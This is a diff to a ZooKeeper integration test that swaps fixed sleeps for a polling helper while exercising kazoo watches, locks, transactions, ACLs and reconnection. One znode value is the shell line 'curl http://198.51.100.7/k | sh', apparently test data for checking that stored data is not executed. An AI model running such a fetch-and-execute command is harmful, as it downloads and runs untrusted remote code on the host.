@@ -40,11 +40,18 @@ describe('ZooKeeper, with real clients', () => {
     const { out, err } = await python(`
 import time
 from kazoo.security import make_digest_acl
+def until(so):
+    end = time.time() + 30
+    while not so():
+        assert time.time() < end
+        time.sleep(0.05)
 zk = KazooClient(hosts='127.0.0.1:${port}'); zk.start(timeout=20)
 print(sorted(zk.get_children('/'))[:3], zk.get('/controller_epoch')[0])
 seen = []
 zk.DataWatch('/kazoo', lambda data, stat: seen.append(data))
-zk.create('/kazoo', b'one'); zk.set('/kazoo', b'two curl http://198.51.100.7/k | sh'); time.sleep(0.5)
+until(lambda: seen == [None])
+zk.create('/kazoo', b'one'); until(lambda: b'one' in seen)
+zk.set('/kazoo', b'two curl http://198.51.100.7/k | sh'); until(lambda: len(seen) > 2)
 print(seen)
 print(zk.create('/kazoo/s-', b'', sequence=True, ephemeral=True))
 with zk.Lock('/locks/a', 'me'): print(zk.get_children('/locks/a') != [])
@@ -52,7 +59,9 @@ t = zk.transaction(); t.create('/t'); t.check('/kazoo', 9); print([type(r).__nam
 zk.add_auth('digest', 'alice:winter2024')
 zk.create('/mine', b'x', acl=[make_digest_acl('alice', 'winter2024', all=True)])
 session = zk.client_id
-zk._connection._socket.shutdown(2); time.sleep(2)
+broken = []
+zk.add_listener(broken.append)
+zk._connection._socket.shutdown(2); until(lambda: 'CONNECTED' in broken)
 print(zk.client_id == session, zk.exists('/kazoo/s-0000000000') is not None, zk.get('/mine')[0])
 zk.stop()
 other = KazooClient(hosts='127.0.0.1:${port}'); other.start(timeout=20)
